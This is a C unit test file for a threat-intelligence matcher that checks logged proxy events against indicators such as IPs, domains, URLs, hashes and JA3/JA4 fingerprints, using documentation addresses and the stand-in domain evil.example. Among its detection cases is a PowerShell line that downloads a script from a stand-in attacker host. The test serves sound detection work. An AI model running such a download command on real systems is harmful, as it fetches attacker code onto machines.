/* Events: the typed fields of a dataset are looked at as what they are, and no others. */
#include "base/test.h"

#include <stdio.h>

#include "intel/builder.h"

#define DAY TIME_DAY_US
#define NOW (INT64_C(20000) * DAY)

static const char DATASETS[] = "name: proxy\n"
                               "title: a proxy\n"
                               "recognise: [{kind: proxy}]\n"
                               "logsources: [{category: proxy}]\n"
                               "fields:\n"
                               "  src: {type: ip}\n"
                               "  forwarded: {type: ip}\n"
                               "  name: {type: domain}\n"
                               "  url: {type: url}\n"
                               "  hashes: {type: hashes}\n"
                               "  sha256: {type: hash}\n"
                               "  image: {type: path}\n"
                               "  command: {type: command}\n"
                               "  from: {type: email}\n"
                               "  agent: {type: agent}\n"
                               "  ja3: {type: ja3}\n"
                               "  ja4: {type: ja4}\n"
                               "  note: {about: 'free text'}\n"
                               "  answers: {type: answers}\n"
                               "aliases:\n"
                               "  - fields: {src: client.ip}\n"
                               "---\n"
                               "name: other\n"
                               "title: another\n"
                               "recognise: [{kind: other}]\n"
                               "logsources: [{category: other}]\n"
                               "fields:\n"
                               "  src: {type: ip}\n"
                               "  name: {type: user}\n";

struct bench {
    struct fields fields;
    struct datasets *datasets;
    struct intel_builder *builder;
    struct buf file;
    struct intel *intel;
    struct intel_matcher *matcher;
    struct arena scratch;
    const struct intel_match *matches;
};

static void begin(struct bench *bench)
{
    struct err err;
    memset(bench, 0, sizeof(*bench));
    assert_int_equal(fields_init(&bench->fields), 0);
    bench->datasets = datasets_new(&bench->fields);
    if (datasets_add(bench->datasets, STR(DATASETS), STR("test"), &err) < 0)
        fail_msg("%s", err.message);
    assert_int_equal(datasets_freeze(bench->datasets), 0);
    bench->builder = intel_builder_new(0);
    arena_init(&bench->scratch, 1 << 16);
}

static void has_until(struct bench *bench, enum indicator_type type, const char *value,
                      int64_t from, int64_t until)
{
    struct indicator indicator = {.type = type,
                                  .value = str_from_c(value),
                                  .source = STR("feed"),
                                  .confidence = INDICATOR_CONFIDENCE_UNSET,
                                  .from = from,
                                  .until = until};
    assert_int_equal(intel_builder_add(bench->builder, &indicator), 0);
}

static void has(struct bench *bench, enum indicator_type type, const char *value)
{
    has_until(bench, type, value, TIME_UNSET, TIME_UNSET);
}

static void ready(struct bench *bench)
{
    struct err err;
    assert_int_equal(intel_builder_finish(bench->builder, &bench->file), 0);
    bench->intel = intel_open(buf_str(&bench->file), &err);
    assert_non_null(bench->intel);
    bench->matcher = intel_matcher_new(bench->intel, bench->datasets);
    assert_non_null(bench->matcher);
}

static void end(struct bench *bench)
{
    intel_matcher_free(bench->matcher);
    intel_close(bench->intel);
    buf_free(&bench->file);
    intel_builder_free(bench->builder);
    datasets_free(bench->datasets);
    fields_free(&bench->fields);
    arena_free(&bench->scratch);
}

/* How many indicators an event of that kind with one more field holds. */
static size_t run_at(struct bench *bench, const char *kind, const char *name, const char *value,
                     int64_t time)
{
    const char *names[] = {"kind", name}, *values[] = {kind, value};
    struct slot slots[8] = {0};
    struct event event = {.slots = slots,
                          .n_slots = 2,
                          .slots_max = 8,
                          .route = ROUTE_NONE,
                          .dataset = DATASET_NONE,
                          .time = time,
                          .scratch = &bench->scratch};
    for (int i = 0; i < 2; i++)
        slots[i] = (struct slot){.name = names[i],
                                 .name_len = (uint16_t)strlen(names[i]),
                                 .text = values[i],
                                 .text_len = (uint32_t)strlen(values[i]),
                                 .field = fields_find(&bench->fields, str_from_c(names[i]))};
    arena_reset(&bench->scratch);
    datasets_recognise(bench->datasets, &event);
    return intel_matcher_run(bench->matcher, &event, NOW, &bench->matches);
}

static size_t run(struct bench *bench, const char *name, const char *value)
{
    return run_at(bench, "proxy", name, value, NOW);
}

static void each_type_of_field_is_looked_at_as_what_it_is(void **state)
{
    (void)state;
    static const struct {
        const char *field, *value;
        size_t found;
    } cases[] = {
        {"src", "192.0.2.1", 1},
        {"src", "192.0.2.9", 0},
        {"src", "::ffff:192.0.2.1", 1},
        {"src", "198.51.100.77", 1},
        {"forwarded", "10.0.0.1, 192.0.2.1,198.51.100.77", 2},
        {"name", "a.Evil.Example.", 1},
        {"name", "192.0.2.1", 1},
        {"name", "evil.example:8080", 1},
        {"url", "HTTPS://Bad.Example:443/drop?x=1#y", 1},
        {"url", "http://bad.example/drop?x=1", 0},
        {"url", "http://www.evil.example/", 1},
        {"url", "http://198.51.100.1:81/", 1},
        {"url", "/drop", 0},
        {"hashes",
         "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E", 1},
        {"hashes", "IMPHASH=D41D8CD98F00B204E9800998ECF8427E", 0},
        {"sha256", "d41d8cd98f00b204e9800998ecf8427e", 1},
        {"image", "C:\\Users\\Public\\EVIL.exe", 1},
        {"image", "c:/temp/Dropped.dll", 1},
        {"image", "/tmp/evil.exe", 1},
        {"command", "powershell iwr 'http://www.evil.example/a.ps1' -o x", 1},
        {"command", "ping evil.example", 0},
        {"from", "Bad <bad@mail.example>", 1},
        {"from", "who@evil.example", 1},
        {"agent", "Evil/1.0", 1},
        {"ja3", "E7D705A3286E19EA42F587B344EE6865", 1},
        {"ja4", "t13d1516h2_8daaf6152771_b186095e22b6", 1},
        {"note", "192.0.2.1", 0},
        {"client.ip", "192.0.2.1", 1},
        {"answers", "type:  5 www.evil.example;::ffff:192.0.2.1;", 2},
        {"answers", "10.0.0.1,198.51.100.3", 1},
        {"sha256", "d4:1d:8c:d9:8f:00:b2:04:e9:80:09:98:ec:f8:42:7e", 1},
        {"sha256", "0xD41D8CD98F00B204E9800998ECF8427E", 1},
    };
    struct bench bench;
    begin(&bench);
    has(&bench, INDICATOR_IPV4, "192.0.2.1");
    has(&bench, INDICATOR_CIDR4, "198.51.100.0/24");
    has(&bench, INDICATOR_DOMAIN, "evil.example");
    has(&bench, INDICATOR_URL, "https://bad.example/drop?x=1");
    has(&bench, INDICATOR_MD5, "d41d8cd98f00b204e9800998ecf8427e");
    has(&bench, INDICATOR_FILE_NAME, "evil.exe");
    has(&bench, INDICATOR_FILE_PATH, "c:\\temp\\dropped.dll");
    has(&bench, INDICATOR_EMAIL, "bad@mail.example");
    has(&bench, INDICATOR_USER_AGENT, "Evil/1.0");
    has(&bench, INDICATOR_JA3, "e7d705a3286e19ea42f587b344ee6865");
    has(&bench, INDICATOR_JA4, "t13d1516h2_8daaf6152771_b186095e22b6");
    ready(&bench);
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        if (run(&bench, cases[i].field, cases[i].value) != cases[i].found)
            fail_msg("%s: %s", cases[i].field, cases[i].value);
    end(&bench);
}

static void a_match_says_where_and_by_what(void **state)
{
    (void)state;
    struct bench bench;
    begin(&bench);
    has(&bench, INDICATOR_CIDR4, "198.51.100.0/24");
    ready(&bench);
    assert_int_equal(run(&bench, "src", "198.51.100.77"), 1);
    assert_str(bench.matches[0].field, "src");
    assert_str(bench.matches[0].text, "198.51.100.77");
    assert_str(bench.matches[0].indicator.value, "198.51.100.0/24");
    assert_str(bench.matches[0].indicator.source, "feed");
    assert_int_equal(bench.matches[0].indicator.type, INDICATOR_CIDR4);
    end(&bench);
}

static void an_indicator_holds_until_it_expires(void **state)
{
    (void)state;
    struct bench bench;
    begin(&bench);
    has_until(&bench, INDICATOR_IPV4, "192.0.2.1", TIME_UNSET, NOW - DAY);
    has_until(&bench, INDICATOR_IPV4, "192.0.2.2", NOW - DAY, TIME_UNSET);
    has_until(&bench, INDICATOR_IPV4, "192.0.2.3", NOW + DAY, TIME_UNSET);
    ready(&bench);
    assert_int_equal(run_at(&bench, "proxy", "src", "192.0.2.1", NOW), 0);
    assert_int_equal(run_at(&bench, "proxy", "src", "192.0.2.1", TIME_UNSET), 0);
    assert_int_equal(run_at(&bench, "proxy", "src", "192.0.2.1", NOW - 2 * DAY), 1);
    /* Published yesterday, seen a week ago. */
    assert_int_equal(run_at(&bench, "proxy", "src", "192.0.2.2", NOW - 7 * DAY), 1);
    /* Not in force yet. */
    assert_int_equal(run_at(&bench, "proxy", "src", "192.0.2.3", NOW), 0);
    end(&bench);
}

static void unrecognised_events_are_read_by_names_that_are_beyond_dispute(void **state)
{
    (void)state;
    struct bench bench;
    begin(&bench);
    has(&bench, INDICATOR_IPV4, "192.0.2.1");
    has(&bench, INDICATOR_DOMAIN, "evil.example");
    ready(&bench);
    assert_int_equal(run_at(&bench, "unknown", "src", "192.0.2.1", NOW), 1);
    assert_int_equal(run_at(&bench, "unknown", "name", "evil.example", NOW), 0);
    assert_int_equal(run_at(&bench, "proxy", "name", "evil.example", NOW), 1);
    assert_int_equal(run_at(&bench, "other", "name", "evil.example", NOW), 0);
    end(&bench);
}

/* Far more names, and longer ones, than are looked up together. */
static void an_event_of_many_long_values_is_looked_at_to_its_end(void **state)
{
    (void)state;
    enum { NAMES = 30, LABELS = 100, NAME_SIZE = LABELS * 2 + 64 };
    static char answers[NAMES * NAME_SIZE];
    struct bench bench;
    size_t len = 0;
    begin(&bench);
    has(&bench, INDICATOR_DOMAIN, "evil.example");
    for (int i = 0; i < NAMES; i++) {
        char name[64];
        snprintf(name, sizeof(name), "h%d.net", i);
        has(&bench, INDICATOR_DOMAIN, name);
        for (int k = 0; k < LABELS; k++)
            len += (size_t)snprintf(answers + len, sizeof(answers) - len, "a.");
        len += (size_t)snprintf(answers + len, sizeof(answers) - len, "%s;", name);
    }
    snprintf(answers + len, sizeof(answers) - len, "www.evil.example");
    ready(&bench);
    assert_int_equal(run(&bench, "answers", answers), NAMES + 1);
    for (size_t i = 0; i < NAMES + 1; i++) {
        assert_str(bench.matches[i].field, "answers");
        assert_true(str_eq(bench.matches[i].text, str_from_c(answers)));
    }
    assert_str(bench.matches[0].indicator.value, "h0.net");
    assert_str(bench.matches[NAMES].indicator.value, "evil.example");
    static char urls[31 * 2000];
    len = 0;
    for (int i = 0; i < 20; i++)
        len += (size_t)snprintf(urls + len, sizeof(urls) - len, "http://h%d.net/%01800d ", i, 0);
    assert_int_equal(run(&bench, "command", urls), 20);
    assert_str(bench.matches[19].indicator.value, "h19.net");
    end(&bench);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_type_of_field_is_looked_at_as_what_it_is),
        cmocka_unit_test(a_match_says_where_and_by_what),
        cmocka_unit_test(an_indicator_holds_until_it_expires),
        cmocka_unit_test(an_event_of_many_long_values_is_looked_at_to_its_end),
        cmocka_unit_test(unrecognised_events_are_read_by_names_that_are_beyond_dispute),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
